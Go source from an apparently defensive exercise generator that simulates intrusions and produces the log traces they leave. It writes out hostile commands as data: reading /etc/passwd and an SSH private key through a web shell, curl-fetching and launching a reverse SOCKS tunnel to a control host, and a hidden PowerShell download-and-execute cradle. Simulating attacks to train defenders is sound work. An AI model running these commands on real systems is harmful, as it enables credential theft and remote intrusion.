package exercise

import (
	"fmt"
	"strings"
	"time"

	"wardround/internal/event"
)

// techniques are what a scenario's steps can say under do:. Each leaves all that the real one leaves, in the logs of both
// ends and of the domain controller as those servers are set up to log, and knows nothing of how it may be found.
var techniques = map[string]technique{
	// entry
	"web-shell":   {plan: (*deed).webShell, to: []system{linux, windows}, enters: true, mute: true},
	"exposed-rdp": {plan: (*deed).exposedDesktop, to: servers, enters: true},
	"vpn":         {plan: (*deed).vpn, from: []system{linux}, to: servers, enters: true},
	"phishing":    {plan: (*deed).phishing, to: servers, enters: true},
	"remote-tool": {plan: (*deed).remoteTool, to: servers, enters: true},
	// movement
	"rdp":            {plan: (*deed).desktop, from: either, to: servers, takes: "then stays"},
	"remote-service": {plan: (*deed).remoteServiceStep, from: either, to: servers, takes: "tool then"},
	"wmi":            {plan: (*deed).wmi, from: either, to: servers},
	"winrm":          {plan: (*deed).winrm, from: either, to: servers},
	"ssh":            {plan: (*deed).sshStep, from: []system{linux}, to: []system{linux}, takes: "how then", mute: true},
	"database":       {plan: (*deed).database, from: either, to: servers, takes: "add"},
	"gpo":            {plan: (*deed).policy, from: servers, to: servers},
	"esxi":           {plan: (*deed).esxiShell, from: either, to: []system{esxi}, mute: true},
	"software-share": {plan: (*deed).softwareShare, from: servers, to: servers, mute: true},
	// on a server
	"look-around":  {plan: (*deed).lookAround, to: servers, mute: true},
	"dump-lsass":   {plan: (*deed).dumpLSASS, to: servers, mute: true},
	"copy-ntds":    {plan: (*deed).copyNTDS, to: servers, mute: true},
	"trojan":       {plan: (*deed).trojan, to: servers, takes: "named kept", mute: true},
	"make-account": {plan: (*deed).makeAccount, to: servers},
	// purpose
	"theft":           {plan: (*deed).stealFiles, to: either, mute: true},
	"destroy-backups": {plan: (*deed).destroyBackups, to: servers, mute: true},
	"catb":            {plan: (*deed).catb, to: servers, takes: "data files stops quiet manner", mute: true},
	"lockbit":         {plan: (*deed).lockbit, to: servers, takes: "data files manner", mute: true},
	"encrypt-shares":  {plan: (*deed).encryptShares, from: servers, to: servers, takes: "manner"},
	"encrypt-esxi":    {plan: (*deed).encryptESXi, to: []system{esxi}, mute: true},
	// hiding
	"clear-logs": {plan: (*deed).clearLogs, to: servers, takes: "also", mute: true},
	"audit-off":  {plan: (*deed).auditOff, to: servers, mute: true},
	"set-clock":  {plan: (*deed).setClock, to: servers, takes: "by", mute: true},
	"timestomp":  {plan: (*deed).timestomp, to: servers, takes: "file", mute: true},
}

var (
	servers = []system{windows}
	either  = []system{windows, linux}
)

// webShell: somebody looks for weak pages, uploads a page as an appointment's attachment, runs commands with it, and
// leaves a tunnel.
func (t *deed) webShell() {
	if t.to.system == windows {
		t.webShellIIS()
		return
	}
	x, s, at := t.x, t.to, t.at
	t.who = nil
	t.arrives(at.Add(9*time.Minute), "web shell")
	shell := "/appointment/uploads/" + x.shell + ".php"
	s.leaves("var/www/portal"+shell, harmless("a web shell stood here: it ran what its parameter c held"), at.Add(9*time.Minute))
	s.leaves(x.tunnel, harmless("a tunnel stood here"), at.Add(25*time.Minute))
	x.takes(s, at.Add(10*time.Minute), nil, nil, nil)
	t.does(func(d *dice) {
		x.looksForPages(s, d, at)
		up := at.Add(9 * time.Minute)
		s.request(up.Add(-70*time.Second), x.scanner.address, "GET", "/appointment/book.php", 200, 8211, "-", x.agent)
		s.request(up, x.scanner.address, "POST", "/appointment/upload.php", 200, 64, "-", x.agent)
		s.request(up.Add(8*time.Second), x.scanner.address, "GET", shell, 200, 0, "-", x.agent)
		s.complains(up.Add(8*time.Second), "error", `*%d FastCGI sent in stderr: "PHP message: PHP Notice:  Undefined index: c in /var/www/portal%s on line 1" while reading response header from upstream, client: %s, server: appointments.exhosp.example, request: "GET %s HTTP/1.1", upstream: "fastcgi://unix:/run/php/php7.4-fpm.sock:", host: "appointments.exhosp.example"`,
			d.between(1000, 90000), shell, x.scanner.address, shell)
		run := up.Add(40 * time.Second)
		for _, c := range x.webCommands() {
			s.request(run, x.scanner.address, "POST", shell, 200, d.between(60, 4200), "-", x.agent)
			s.shell(d, run.Add(80*time.Millisecond), c.line, c.then...)
			run = run.Add(d.about(75 * time.Second))
		}
		s.audits(d, run, command{exe: x.tunnel, args: []string{x.tunnel, "client", x.control[0].address + ":443", "R:socks"}, folder: "/", uid: uidWeb, auid: -1, ppid: 1, tty: "(none)"})
	})
}

func (x *intruder) looksForPages(s *server, d *dice, look event.Time) {
	ending := []string{".php", "/", ".zip", ".bak", ""}
	if s.system == windows {
		ending[0] = ".aspx"
	}
	for range d.between(50, 90) {
		uri := "/" + pick(d, []string{"admin", "upload", "backup", "test", "old", "api", "appointment", "uploads", "config", "files"}) + "/" + d.letters(d.between(3, 8), lower) + pick(d, ending)
		s.request(look, x.scanner.address, "GET", uri, 404, 162, "-", x.agent)
		look = d.within(look, 9*time.Second)
	}
}

type webCommand struct {
	line string
	then []command
}

// webCommands are what the web shell is told to run.
func (x *intruder) webCommands() []webCommand {
	folder := x.tunnel[:strings.LastIndexByte(x.tunnel, '/')]
	return []webCommand{
		{"id", []command{program("/usr/bin/id")}},
		{"uname -a", []command{program("/usr/bin/uname", "-a")}},
		{"cat /etc/passwd", []command{program("/usr/bin/cat", "/etc/passwd")}},
		{"cat ../config/database.php", []command{program("/usr/bin/cat", "../config/database.php")}},
		{"ls -la /home/deploy/.ssh", []command{program("/usr/bin/ls", "-la", "/home/deploy/.ssh")}},
		{"cat /home/deploy/.ssh/id_rsa", []command{program("/usr/bin/cat", "/home/deploy/.ssh/id_rsa")}},
		{"mkdir " + folder, []command{program("/usr/bin/mkdir", folder)}},
		{"curl -s -o " + x.tunnel + " http://" + x.control[0].address + "/t", []command{program("/usr/bin/curl", "-s", "-o", x.tunnel, "http://"+x.control[0].address+"/t")}},
		{"chmod 755 " + x.tunnel, []command{program("/usr/bin/chmod", "755", x.tunnel)}},
		{"nohup " + x.tunnel + " client " + x.control[0].address + ":443 R:socks &", nil},
	}
}

// webShellIIS: the same on a web server of Windows, where the site's worker process runs the commands.
func (t *deed) webShellIIS() {
	x, s, at := t.x, t.to, t.at
	t.who = nil
	t.arrives(at.Add(9*time.Minute), "web shell")
	shell := "/appointment/uploads/" + x.shell + ".aspx"
	s.leaves(`C:\inetpub\wwwroot`+strings.ReplaceAll(shell, "/", `\`), harmless("a web shell stood here: it ran what its parameter c held"), at.Add(9*time.Minute))
	worker := s.standing("w3wp")
	x.takes(s, at.Add(10*time.Minute), worker, nil, nil)
	t.does(func(d *dice) {
		x.looksForPages(s, d, at)
		up := at.Add(9 * time.Minute)
		s.request(up.Add(-70*time.Second), x.scanner.address, "GET", "/appointment/book.aspx", 200, 8211, "-", x.agent)
		s.request(up, x.scanner.address, "POST", "/appointment/upload.aspx", 200, 64, "-", x.agent)
		s.creates(up.Add(40*time.Millisecond), worker, `C:\inetpub\wwwroot`+strings.ReplaceAll(shell, "/", `\`))
		next := up.Add(40 * time.Second)
		for _, c := range append([]run{{"whoami.exe", "whoami"}}, x.looks(d)...) {
			s.request(next, x.scanner.address, "POST", shell, 200, d.between(60, 4200), "-", x.agent)
			cmd := s.start(d, next.Add(60*time.Millisecond), worker, nil, `C:\Windows\System32\cmd.exe`, `"cmd.exe" /c `+c.command)
			p := s.start(d, next.Add(90*time.Millisecond), cmd, nil, `C:\Windows\System32\`+c.image, c.command)
			s.ends(next.Add(400*time.Millisecond), p)
			next = next.Add(d.about(75 * time.Second))
		}
	})
}

// exposedDesktop: Remote Desktop is open to the internet; after many wrong passwords one is right.
func (t *deed) exposedDesktop() {
	x, s, at, who := t.x, t.to, t.at, t.who
	in := s.session(at, who, x.scanner, 10)
	desk := x.desk(s, t.d, in)
	t.arrives(at, "rdp")
	tries := t.d.between(25, 45)
	t.does(func(d *dice) {
		guess := at.Add(-d.about(5 * time.Hour))
		name := "WIN-" + strings.ToUpper(d.letters(11, lower))
		for range tries {
			user := pick(d, []string{"administrator", "admin", "user", "test", "scanner", "backup", "server", who.name, "guest", "sql"})
			sub, status := 0xc0000064, 0xc000006d
			if user == who.name || user == "administrator" {
				sub = 0xc000006a
			}
			s.log(guess, "core-131", fields{"ClientIP": fmt.Sprintf("%s:%d", x.scanner.address, d.port())})
			s.log(guess.Add(300*time.Millisecond), "4625", fields{"TargetUserName": user, "TargetDomainName": "", "LogonType": 3, "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
				"WorkstationName": name, "IpAddress": x.scanner.address, "IpPort": "0", "SubStatus": sub, "Status": status})
			guess = d.within(guess, 2*4*time.Hour/time.Duration(tries))
		}
		s.rdpAs(d, at, who, host{name, x.scanner.address}, in)
		s.explorer(d, in, desk)
		s.types(d, at.Add(3*time.Minute), desk, in, x.looks(d))
		s.rdpLeaves(at.Add(d.about(50*time.Minute)), in)
	})
}

// desk is the shell of a desktop's session, which obeys the intruder from then on.
func (x *intruder) desk(s *server, d *dice, in *session) *process {
	p := &process{image: `C:\Windows\explorer.exe`, command: `C:\Windows\Explorer.EXE`, pid: d.pid(), at: in.at.Add(3 * time.Second), folder: `C:\Windows\system32\`, session: in}
	x.takes(s, p.at, p, in, in.who)
	return p
}

// explorer logs the start of a desktop's shell.
func (s *server) explorer(d *dice, in *session, desk *process) {
	s.started(desk, &process{image: `C:\Windows\System32\userinit.exe`, command: `C:\Windows\system32\userinit.exe`, pid: d.pid(), at: in.at.Add(2 * time.Second), session: in})
}

// vpn: from is the server that runs the VPN; with a stolen account somebody gets an address of its pool, and from there a
// desktop.
func (t *deed) vpn() {
	x, s, gate, at, who := t.x, t.to, t.from, t.at, t.who
	pool := host{"", fmt.Sprintf("10.20.200.%d", t.d.between(6, 120))}
	in := s.session(at, who, pool, 10)
	desk := x.desk(s, t.d, in)
	account := x.e.domain.name + `\` + who.name
	x.e.reached(s, at, pool, nil, account, "vpn")
	x.e.origin(x.scanner.address)
	t.does(func(d *dice) {
		gate.vpnSession(d, at.Add(-d.about(4*time.Minute)), at.Add(80*time.Minute), who.name, x.scanner, pool)
		s.rdpAs(d, at, who, host{"DESKTOP-" + strings.ToUpper(d.letters(7, lower)), pool.address}, in)
		s.explorer(d, in, desk)
		s.types(d, at.Add(2*time.Minute), desk, in, x.looks(d))
		s.rdpLeaves(at.Add(70*time.Minute), in)
	})
}

// vpnSession logs a session of OpenVPN: the outer address, the account, the address that it gets.
func (s *server) vpnSession(d *dice, from, to event.Time, user string, outer, inner host) {
	tag, peer := fmt.Sprintf("openvpn[%d]", 812), fmt.Sprintf("%s:%d", outer.address, d.port())
	s.syslog("syslog", from, tag, "%s TLS: Initial packet from [AF_INET]%s, sid=%s %s", peer, peer, digest(8, user, from.String()), digest(8, from.String()))
	s.syslog("syslog", from.Add(900*time.Millisecond), tag, "%s VERIFY OK: depth=0, CN=%s", peer, user)
	s.syslog("syslog", from.Add(1200*time.Millisecond), tag, "%s TLS: Username/Password authentication succeeded for username '%s' ", peer, user)
	s.syslog("syslog", from.Add(1300*time.Millisecond), tag, "%s [%s] Peer Connection Initiated with [AF_INET]%s", peer, user, peer)
	s.syslog("syslog", from.Add(1400*time.Millisecond), tag, "%s/%s MULTI: primary virtual IP for %s/%s: %s", user, peer, user, peer, inner.address)
	s.syslog("syslog", to, tag, "%s/%s SIGTERM[soft,remote-exit] received, client-instance exiting", user, peer)
}

// phishing: on a server where staff work on desktops somebody opens the attachment of a mail; a script fetches another.
func (t *deed) phishing() {
	x, s, at, who := t.x, t.to, t.at, t.who
	in := s.session(at.Add(-40*time.Minute), who, who.station, 10)
	shell := &process{image: `C:\Windows\explorer.exe`, command: `C:\Windows\Explorer.EXE`, pid: t.d.pid(), at: in.at.Add(3 * time.Second), folder: `C:\Windows\system32\`, session: in}
	const power = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	fetch := "IEX (New-Object Net.WebClient).DownloadString('http://" + x.control[0].address + "/a')"
	ps := &process{image: power, command: `"` + power + `" -nop -w hidden -c "` + fetch + `"`, pid: t.d.pid(), at: at.Add(9 * time.Second), folder: `C:\Users\` + who.name + `\`, session: in}
	attachment := pick(t.d, []string{"Lab_Report", "Invoice_2211", "Circular", "Duty_Roster"}) + pick(t.d, []string{".docm", ".xlsm"})
	x.takes(s, ps.at, ps, in, who)
	t.who = nil
	account := x.e.domain.name + `\` + who.name
	x.e.reached(s, ps.at, x.control[0], nil, account, "phishing")
	s.leaves(`C:\Users\`+who.name+`\Downloads\`+attachment, harmless("a document whose macro fetched a script stood here"), at)
	t.does(func(d *dice) {
		s.rdpAs(d, in.at, who, who.station, in)
		s.explorer(d, in, shell)
		outlook := s.start(d, at.Add(-20*time.Minute), shell, in, `C:\Program Files\Microsoft Office\Office16\OUTLOOK.EXE`, `"C:\Program Files\Microsoft Office\Office16\OUTLOOK.EXE" `)
		word := s.start(d, at, outlook, in, `C:\Program Files\Microsoft Office\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\Office16\WINWORD.EXE" /n "C:\Users\`+who.name+`\Downloads\`+attachment+`" /o ""`)
		s.started(ps, word)
		s.powershell(d, ps, fetch, true)
		s.connects(d, at.Add(11*time.Second), ps, x.e.domain.name+`\`+who.name, x.control[0], 80)
		s.types(d, at.Add(4*time.Minute), ps, in, x.looks(d))
		s.rdpLeaves(at.Add(d.about(3*time.Hour)), in)
	})
}

// powershell logs what PowerShell writes of itself when it starts, and a script that it runs: always where the script looks
// strange to it, else where that is set up.
func (s *server) powershell(d *dice, p *process, script string, strange bool) {
	sidOf := "S-1-5-18"
	if p.session != nil {
		sidOf = p.session.who.sid
	}
	user := func() fields { return fields{"@user": sidOf, "@pid": p.pid} }
	at, id := p.at, digest(8, p.at.String())+"-7c1d-4e2f-9a3b-"+digest(12, p.command, p.at.String())
	host, remote := "ConsoleHost", strings.Contains(p.image, "wsmprovhost")
	if remote {
		host = "ServerRemoteHost"
	}
	s.engine(at.Add(200*time.Millisecond), "engine-600", "Registry", "Started", "\tProviderName=Registry\r\n\tNewProviderState=Started", 1, host, id, p.command)
	s.engine(at.Add(340*time.Millisecond), "engine-400", "Available", "None", "\tNewEngineState=Available\r\n\tPreviousEngineState=None", 13, host, id, p.command)
	s.log(at.Add(300*time.Millisecond), "powershell-40961", user())
	s.log(at.Add(350*time.Millisecond), "powershell-53504", fields{"param1": fmt.Sprint(p.pid)}.with(user()))
	s.log(at.Add(400*time.Millisecond), "powershell-40962", user())
	key := "powershell-4104"
	if !strange {
		key = "script-4104"
	}
	if strange || s.scripts {
		s.log(at.Add(500*time.Millisecond), key, fields{"ScriptBlockText": script, "ScriptBlockId": id}.with(user()))
	}
	s.engine(at.Add(40*time.Second), "engine-403", "Stopped", "Available", "\tNewEngineState=Stopped\r\n\tPreviousEngineState=Available", 15, host, id, p.command)
}

func (s *server) engine(at event.Time, key, first, second, states string, sequence int, host, id, command string) {
	text := fmt.Sprintf("%s\r\n\r\n\tSequenceNumber=%d\r\n\r\n\tHostName=%s\r\n\tHostVersion=5.1.14393.5127\r\n\tHostId=%s\r\n\tHostApplication=%s\r\n\tEngineVersion=%s\r\n\tRunspaceId=%s\r\n\tPipelineId=\r\n\tCommandName=\r\n\tCommandType=\r\n\tScriptName=\r\n\tCommandPath=\r\n\tCommandLine=",
		states, sequence, host, id, command, map[bool]string{true: "", false: "5.1.14393.5127"}[key == "engine-600"], strings.Replace(id, "7c1d", "81aa", 1))
	s.log(at, key, fields{"@data": []string{first, second, text}})
}

// remoteTool: a supplier's tool for remote help has run on the server for years; somebody else knows its password.
func (t *deed) remoteTool() {
	x, s, at, who := t.x, t.to, t.at, t.who
	in := s.session(at.Add(25*time.Second), who, host{s.name, "127.0.0.1"}, 2)
	desk := x.desk(s, t.d, in)
	t.arrives(at, "remote tool")
	ends := at.Add(t.d.about(95 * time.Minute))
	text, peer := s.helpLog(t.d, at, ends, who.name)
	s.leaves(`C:\Program Files (x86)\TeamViewer\Connections_incoming.txt`, text, ends)
	x.e.truth.hops[len(x.e.truth.hops)-1].Named = peer
	t.does(func(d *dice) {
		tool := s.standing("teamviewer")
		s.connects(d, at.Add(-2*time.Second), tool, `NT AUTHORITY\SYSTEM`, x.scanner, 5938)
		s.log(at.Add(25*time.Second-2*time.Millisecond), "4648", s.self().with(fields{"TargetUserName": who.name, "TargetDomainName": x.e.domain.name, "ProcessId": s.pid("winlogon"),
			"ProcessName": `C:\Windows\System32\winlogon.exe`, "IpAddress": "127.0.0.1", "IpPort": "0"}))
		s.logon4624(in.at, in, s.self().with(fields{"LogonProcessName": "User32 ", "AuthenticationPackageName": "Negotiate", "WorkstationName": s.name, "ProcessId": s.pid("winlogon"),
			"ProcessName": `C:\Windows\System32\winlogon.exe`, "IpAddress": "127.0.0.1", "IpPort": "0"}))
		s.special(in.at, in)
		s.explorer(d, in, desk)
		s.types(d, at.Add(3*time.Minute), desk, in, x.looks(d))
		end := s.needed(ends)
		s.log(end, "4647", s.target(in))
		s.log(end.Add(40*time.Millisecond), "4634", s.target(in).with(fields{"LogonType": 2}))
	})
}

// helpLog is the log of connections that TeamViewer keeps: the supplier's by day, and the intruder's, whose computer it
// knows by name alone.
func (s *server) helpLog(d *dice, at, ends event.Time, user string) (text []byte, peer string) {
	var b strings.Builder
	const form = "02-01-2006 15:04:05"
	line := func(id, name string, from, to event.Time) {
		fmt.Fprintf(&b, "%s\t%s\t%s\t%s\t%s\tRemoteControl\t{%s-1b2c-4d3e-8f40-%s}\t\r\n", id, name, s.local(from).Std().Format(form), s.local(to).Std().Format(form), user, digest(8, from.String()), digest(12, from.String(), id))
	}
	line("100000001", event.ExerciseMark, s.e.from, s.e.from.Add(time.Minute))
	s.e.days(func(midnight event.Time, weekday time.Weekday) {
		when := d.within(midnight.Add(11*time.Hour), 4*time.Hour)
		if weekday == time.Wednesday && when < at {
			line("418223907", "SUPPLIER-DESK2", when, when.Add(d.about(30*time.Minute)))
		}
	})
	id := fmt.Sprint(d.between(900_000_000, 1_900_000_000))
	peer = "DESKTOP-" + strings.ToUpper(d.letters(7, lower))
	line(id, peer, at, ends)
	return []byte(b.String()), peer
}
